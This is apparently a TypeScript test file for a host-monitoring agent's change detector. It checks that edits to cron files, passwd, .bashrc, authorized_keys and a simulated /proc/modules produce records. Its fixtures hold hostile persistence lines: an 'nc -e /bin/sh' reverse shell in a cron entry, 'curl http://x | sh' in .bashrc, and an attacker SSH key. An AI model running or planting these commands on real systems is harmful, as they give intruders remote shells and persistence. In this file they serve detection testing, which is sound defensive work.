// The change-records source on a temporary tree: inotify-driven records, a directory that appears later, the
// baseline kept across a restart (changes made while stopped are reported), and /proc/modules polling from a file.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { randomUUID } from 'node:crypto';
import { checkEvent } from '@vigil/schema';
import type { EventSink } from '../core.js';
import { createChangeSource } from './change-source.js';
import type { WatchPoint } from './watch-points.js';

function collector() {
  const events: Record<string, unknown>[] = [];
  const warnings: string[] = [];
  const sink: EventSink = { emit: (e) => events.push(e as unknown as Record<string, unknown>), warn: (m) => warnings.push(m) };
  return { events, warnings, sink };
}

async function until<T>(what: string, probe: () => T | undefined, ms = 5000): Promise<T> {
  const deadline = Date.now() + ms;
  while (Date.now() < deadline) {
    const value = probe();
    if (value !== undefined) return value;
    await new Promise((r) => setTimeout(r, 20));
  }
  throw new Error(`timed out waiting for ${what}`);
}

function tree() {
  const root = mkdtempSync(join(tmpdir(), 'vigil-changes-'));
  mkdirSync(join(root, 'cron.d'));
  mkdirSync(join(root, 'home'));
  writeFileSync(join(root, 'passwd'), 'root:x:0:0:root:/root:/bin/bash\n');
  writeFileSync(join(root, 'group'), 'root:x:0:\n');
  writeFileSync(join(root, 'cron.d', 'existing'), '0 * * * * root /usr/bin/true\n');
  const points = (): WatchPoint[] => [
    { dir: join(root, 'cron.d'), handler: 'autostart', location: 'cron' },
    { dir: root, names: new Set(['passwd', 'group']), handler: 'accounts' },
    { dir: join(root, 'home'), names: new Set(['.bashrc']), handler: 'autostart', location: 'shell_rc', user: 'alice' },
    { dir: join(root, 'home', '.ssh'), names: new Set(['authorized_keys']), handler: 'autostart', location: 'authorized_keys', user: 'alice' },
  ];
  return { root, points, options: { points, passwdPath: join(root, 'passwd'), groupPath: join(root, 'group'), debounceMs: 30, modulesPath: join(root, 'modules') } };
}

const valid = (event: Record<string, unknown>) => assert.deepEqual(checkEvent({ ...event, 'event.id': randomUUID(), 'event.sequence': 1, 'host.id': 'h' }, 'event').problems, []);

test('creation, modification and deletion in a watched directory are reported within a second; the start is silent', async () => {
  const { root, options } = tree();
  const { events, sink } = collector();
  const stale: string[][] = [];
  const source = createChangeSource({ ...options, onChange: (tables) => stale.push(tables) });
  try {
    await source.start(sink);
    assert.equal(events.length, 0, 'the first scan only records the state');
    const path = join(root, 'cron.d', 'backdoor');
    writeFileSync(path, '* * * * * root nc -e /bin/sh 203.0.113.9 4444\n');
    const created = await until('created', () => events.find((e) => e['event.action'] === 'created' && e['file.path'] === path));
    assert.equal(created['autostart.command'], '* * * * * root nc -e /bin/sh 203.0.113.9 4444');
    writeFileSync(path, '* * * * * root nc -e /bin/sh 203.0.113.9 4444\n@reboot root /tmp/x\n');
    const modified = await until('modified', () => events.find((e) => e['event.action'] === 'modified' && e['file.path'] === path));
    assert.match(String(modified['change.diff']), /\n\+@reboot root \/tmp\/x\n/);
    assert.equal(modified['change.before_sha256'], created['change.after_sha256']);
    rmSync(path);
    await until('deleted', () => events.find((e) => e['event.action'] === 'deleted' && e['file.path'] === path));
    writeFileSync(join(root, 'passwd'), 'root:x:0:0:root:/root:/bin/bash\nalice:x:1001:1001::/home/alice:/bin/bash\n');
    const user = await until('user_created', () => events.find((e) => e['event.action'] === 'user_created'));
    assert.equal(user['user.target.name'], 'alice');
    assert.ok(stale.some((t) => t.includes('users')), 'the users inventory is marked stale');
    events.forEach(valid);
    assert.ok(source.stats().watches! >= 3);
  } finally {
    await source.stop();
    rmSync(root, { recursive: true, force: true });
  }
});

test('a directory created later (~/.ssh) is watched and its files reported', async () => {
  const { root, options } = tree();
  const { events, sink } = collector();
  const source = createChangeSource(options);
  try {
    await source.start(sink);
    mkdirSync(join(root, 'home', '.ssh'));
    await new Promise((r) => setTimeout(r, 200));
    writeFileSync(join(root, 'home', '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAAC3Nza attacker\n');
    const record = await until('authorized_keys created', () => events.find((e) => e['autostart.location'] === 'authorized_keys'));
    assert.equal(record['event.action'], 'created');
    assert.equal(record['autostart.user'], 'alice');
    assert.equal(record['autostart.command'], 'ssh-ed25519 AAAAC3Nza attacker');
  } finally {
    await source.stop();
    rmSync(root, { recursive: true, force: true });
  }
});

test('the baseline survives a restart: changes made while stopped are reported at the next start', async () => {
  const { root, options } = tree();
  const stateDir = join(root, 'state');
  const first = collector();
  const a = createChangeSource({ ...options, stateDir });
  await a.start(first.sink);
  await a.stop();
  assert.equal(statSync(join(stateDir, 'changes-baseline.json')).mode & 0o777, 0o600);
  writeFileSync(join(root, 'cron.d', 'existing'), '0 * * * * root /tmp/evil\n');
  writeFileSync(join(root, 'cron.d', 'added-offline'), '@reboot root /tmp/evil\n');
  writeFileSync(join(root, 'home', '.bashrc'), 'curl http://x | sh\n');
  const second = collector();
  const b = createChangeSource({ ...options, stateDir });
  try {
    await b.start(second.sink);
    const summary = second.events.map((e) => `${e['event.action']} ${e['file.name']}`).sort();
    assert.deepEqual(summary, ['created .bashrc', 'created added-offline', 'modified existing']);
  } finally {
    await b.stop();
  }
  // A watch point the saved baseline did not know (a newer agent version) is recorded without records.
  const third = collector();
  const extra = join(root, 'newpoint');
  mkdirSync(extra);
  writeFileSync(join(extra, 'file'), 'x\n');
  const c = createChangeSource({ ...options, stateDir, points: () => [...options.points(), { dir: extra, handler: 'autostart', location: 'profile' }] });
  try {
    await c.start(third.sink);
    assert.deepEqual(third.events, []);
  } finally {
    await c.stop();
    rmSync(root, { recursive: true, force: true });
  }
});

test('kernel modules appearing and leaving /proc/modules are load and unload records', async () => {
  const { root, options } = tree();
  writeFileSync(join(root, 'modules'), 'nf_tables 299008 0 - Live 0xffff\n');
  const { events, sink } = collector();
  const source = createChangeSource({ ...options, modulesPollSeconds: 0.05 });
  try {
    await source.start(sink);
    writeFileSync(join(root, 'modules'), 'nf_tables 299008 0 - Live 0xffff\nrootkit 16384 0 - Live 0xffff (OE)\n');
    const load = await until('load', () => events.find((e) => e['event.action'] === 'load'));
    assert.equal(load['driver.name'], 'rootkit');
    assert.equal(load['event.provider'], 'procfs');
    writeFileSync(join(root, 'modules'), 'rootkit 16384 0 - Live 0xffff (OE)\n');
    const unload = await until('unload', () => events.find((e) => e['event.action'] === 'unload'));
    assert.equal(unload['driver.name'], 'nf_tables');
    valid(load);
    valid(unload);
  } finally {
    await source.stop();
    rmSync(root, { recursive: true, force: true });
  }
});
